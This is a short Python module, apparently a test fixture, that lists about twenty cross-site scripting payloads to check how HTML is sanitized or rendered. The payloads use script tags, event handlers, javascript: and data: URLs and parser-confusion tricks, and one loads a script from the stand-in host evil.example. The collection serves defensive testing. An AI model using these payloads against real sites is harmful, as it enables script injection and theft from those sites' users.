"""HTML that is made to run something or to break its reader."""

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">said</p>',
    '<a href="javascript:alert(1)">said</a>',
    '<a href=" java&#x0A;script&colon;alert(1)">said</a>',
    '<a href="data:text/html,<script>alert(1)</script>">said</a>',
    "<svg onload=alert(1)><script>alert(1)</script><text>x</text></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    "<style>@import 'javascript:alert(1)'</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>said</button>",
    "<base href='javascript:alert(1)'><meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<!--><script>alert(1)</script>-->",
    "<p>said<![CDATA[<script>alert(1)</script>]]></p>",
    "<textarea><script>alert(1)</script></textarea>",
    '<code class="language-&quot;><script>alert(1)</script>">said</code>',
]
